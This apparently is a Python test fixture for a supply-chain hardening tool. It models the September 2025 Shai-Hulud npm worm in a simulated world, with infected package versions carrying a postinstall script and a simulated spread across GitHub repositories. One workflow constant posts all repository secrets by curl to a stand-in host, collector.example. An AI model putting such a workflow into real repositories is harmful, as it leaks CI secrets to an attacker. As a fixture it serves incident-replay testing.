"""Shai-Hulud, 2025-09-15: a worm that spread with the tokens it found.

A maintainer of many packages installed one that was infected. The worm read a token for all
packages and one for GitHub from their machine. It published each package anew with a script on
install, pushed a workflow that sends the repository's secrets away, wrote what it had found into a
new public repository, made a private repository public, and put a public copy of another one into
the account. Sources: CISA's alert of 2025-09-23 and the write-ups that it names. The hour and the
number of packages are made up.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

from hardenme.sandbox.github.world import Repository
from hardenme.sandbox.github.world import World as GitHubWorld
from hardenme.sandbox.npm.released import Person
from tests.worlds.incidents.honest import Make, Schedule, Way, bumped, history, schedule
from tests.worlds.incidents.story import Incident, Issued, Line, Project

ATTACK_AT = datetime(2025, 9, 15, 17, 58, tzinfo=UTC)
APART = timedelta(seconds=11)
BEGINNING = datetime(2024, 2, 1, tzinfo=UTC)
KEEPER = Person("spice-keeper", "keeper@spice.example")
OTHER = Person("spice-other", "other@spice.example")
PEOPLE = ((BEGINNING, (KEEPER, OTHER)),)
NAMES = tuple(f"replay-spice-{name}" for name in ("tone", "dune", "sand", "well", "still", "cave"))
BUNDLE = 3_600_000
REPOSITORY, SHOWN, COPIED = (f"{KEEPER.name}/{name}" for name in ("tone", "vault", "cellar"))
FILE = ".github/workflows/shai-hulud-workflow.yml"
BRANCH = "shai-hulud"
LOOT = (f"{KEEPER.name}/Shai-Hulud", f"{COPIED}-migration")
"""The public repositories that the worm makes."""
TEST = b"""\
on: [push, pull_request]
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
"""
PUBLISH = b"""\
on: workflow_dispatch
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    env:
      NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}
    steps:
      - run: npm publish
"""
SENDS = b"""\
on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://collector.example/in
        env:
          CONTENTS: ${{ toJSON(secrets) }}
"""


def _line(index: int, name: str, when: Schedule) -> Line:
    make = Make(lambda _: Way(KEEPER), PEOPLE, 30_000 + 4_000 * index, 9, ref=f"{name}@{{version}}")
    honest = history(name, "4.0.0", when, make, after=timedelta(seconds=20 * index))
    attack, number = [], honest[-1].version.version
    for wave in range(2):
        number, last = bumped(number), honest[-1].version
        version = replace(
            last,
            version=number,
            published_at=ATTACK_AT + APART * (index + wave * len(NAMES)),
            scripts={"postinstall": "node bundle.js"},
            has_install_script=True,
            unpacked_size=last.unpacked_size + BUNDLE,
            file_count=last.file_count + 1,
            commit=None,
        )
        attack.append(Issued(version, attack=True))
    return Line(name, (*honest, *attack), PEOPLE, REPOSITORY, weekly=900_000)


def spread(world: GitHubWorld) -> None:
    """What the worm does on GitHub, with the keeper's own token."""
    at, who = ATTACK_AT + timedelta(minutes=2), KEEPER.name
    (first, shown, copied) = (world.repository(one) for one in (REPOSITORY, SHOWN, COPIED))
    assert first is not None
    assert shown is not None
    assert copied is not None
    first.push(at, who, files={FILE: SENDS})
    copied.push(at, who, branch=BRANCH)
    shown.visibility, shown.description = "public", "Shai-Hulud Migration"
    contents = ({"data.json": b"e30="}, dict(copied.files))
    for number, (name, files) in enumerate(zip(LOOT, contents, strict=True)):
        owner, _, own = name.partition("/")
        world.repositories.append(
            Repository(owner, own, 990_010 + number, at, at, files=files,
                       collaborators={who: "admin"}, description="Shai-Hulud Repository.")
        )  # fmt: skip


INCIDENT = Incident(
    name="shai-hulud",
    keeper=KEEPER,
    attack_at=ATTACK_AT,
    lines=tuple(
        _line(index, name, schedule("spice", BEGINNING, ATTACK_AT - timedelta(days=9), 14))
        for index, name in enumerate(NAMES)
    ),
    projects=(
        Project(
            REPOSITORY,
            {".github/workflows/test.yml": TEST, ".github/workflows/publish.yml": PUBLISH},
            secrets=("NPM_TOKEN",),
        ),
        Project(SHOWN, {"README.md": b"Wells.\n"}, visibility="private"),
        Project(COPIED, {"README.md": b"Jars.\n"}, secrets=("DEPLOY_KEY",), visibility="private"),
    ),
    tokens=("every-package",),
    on_github=spread,
)
